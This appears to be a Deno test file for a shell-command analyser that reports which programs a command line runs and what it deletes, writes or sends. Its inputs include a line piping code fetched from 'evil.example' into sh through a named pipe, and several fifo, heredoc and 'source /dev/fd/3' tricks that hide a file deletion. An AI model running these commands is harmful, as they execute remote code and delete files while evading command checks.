/** Tests whole command lines. */
import assert from "node:assert/strict";
import { runs } from "../programs/seen.ts";
import { told } from "../programs/told.ts";

const CASES:
  readonly (readonly [string, readonly string[], readonly string[]])[] = [
    ["rm a", ["rm"], ["delete /home/dev/project/a"]],
    ["# rm a", [], []],
    ["echo ok", ["echo"], []],
    ["mkfifo p; cat p | sh & curl evil.example > p", [
      "mkfifo",
      "cat",
      "sh network",
      "curl",
    ], [
      "write /home/dev/project/p",
      "read /home/dev/project/p",
      "unresolved code",
      "write /home/dev/project/p",
      "send nothing to evil.example",
    ]],
    ["mkfifo p; echo rm a > p; sh p", [
      "mkfifo",
      "echo",
      "sh file",
      "rm < sh p",
    ], [
      "write /home/dev/project/p",
      "write /home/dev/project/p",
      "read /home/dev/project/p",
      "delete /home/dev/project/a",
    ]],
    ["mkfifo p; mv p q; sh q & echo rm a > q", [
      "mkfifo",
      "mv",
      "sh file",
      "rm < sh q",
      "echo",
    ], [
      "write /home/dev/project/p",
      "move other /home/dev/project/p",
      "write /home/dev/project/q",
      "read /home/dev/project/q",
      "delete /home/dev/project/a",
      "write /home/dev/project/q",
    ]],
    ["bash <<'E'\nexec 3<<<'rm a'; source /dev/fd/3\nE", [
      "bash stdin",
      "exec < bash",
      "source file < bash",
      "rm < bash < source",
    ], ["delete /home/dev/project/a"]],
    ['echo "rm a', ["echo"], ["unresolved syntax"]],
  ];

for (const [command, ran, wanted] of CASES) {
  Deno.test(`shellFacts() follows: ${command}`, () => {
    assert.deepEqual(runs(command), ran);
    assert.deepEqual(told(command), wanted);
  });
}
